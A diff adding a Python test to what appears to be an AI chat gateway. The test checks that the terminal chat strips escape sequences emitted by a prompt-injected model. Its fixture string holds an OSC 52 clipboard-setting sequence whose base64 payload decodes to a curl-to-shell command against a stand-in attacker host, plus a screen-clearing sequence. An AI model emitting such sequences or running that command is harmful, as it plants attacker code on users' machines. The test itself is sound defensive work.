@@ -224,3 +224,33 @@ async def test_a_requester_revoked_since_asking_cannot_approve(tmp_path: Path) -
         assert not (await rig.channel.press(buttons.message_id, "❌", ADMIN, "Root")).refused
         await until(lambda: rig.harness.resumed, what="the admin's denial")
         assert rig.harness.resumed[0].decision.approved is False
+
+
+# -- the terminal chat ------------------------------------------------------------------------------
+def test_the_terminal_chat_prints_no_escape_sequences_from_the_model(tmp_path: Path) -> None:
+    """A prompt-injected model answers with terminal escape sequences: OSC 52 sets the user's
+    clipboard (a command to paste later), CSI clears the screen. They reached the terminal raw."""
+    import subprocess
+    import sys
+
+    import yaml
+
+    from tests.daemon import REPO, base_config, free_port
+    from tests.test_cli_chat import env
+
+    evil = "safe answer\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\x9b31m done\r\n"
+    fake = FakeOpenAI.start_in_thread()
+    try:
+        fake.script(Reply(text=evil))
+        path = tmp_path / "config.yaml"
+        path.write_text(yaml.safe_dump(base_config(tmp_path / "data", fake.base_url, free_port())))
+        proc = subprocess.run(
+            [sys.executable, "-m", "gateway.cli", "chat", "-c", str(path)],
+            cwd=str(REPO), env=env(), input=b"hello", capture_output=True, timeout=120,
+        )  # fmt: skip
+    finally:
+        fake.stop()
+    out = proc.stdout.decode()
+    assert proc.returncode == 0, out + proc.stderr.decode()
+    assert "safe answer]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==[2J31m done" in out
+    assert not any(c in out for c in "\x1b\x07\x9b\r"), repr(out)
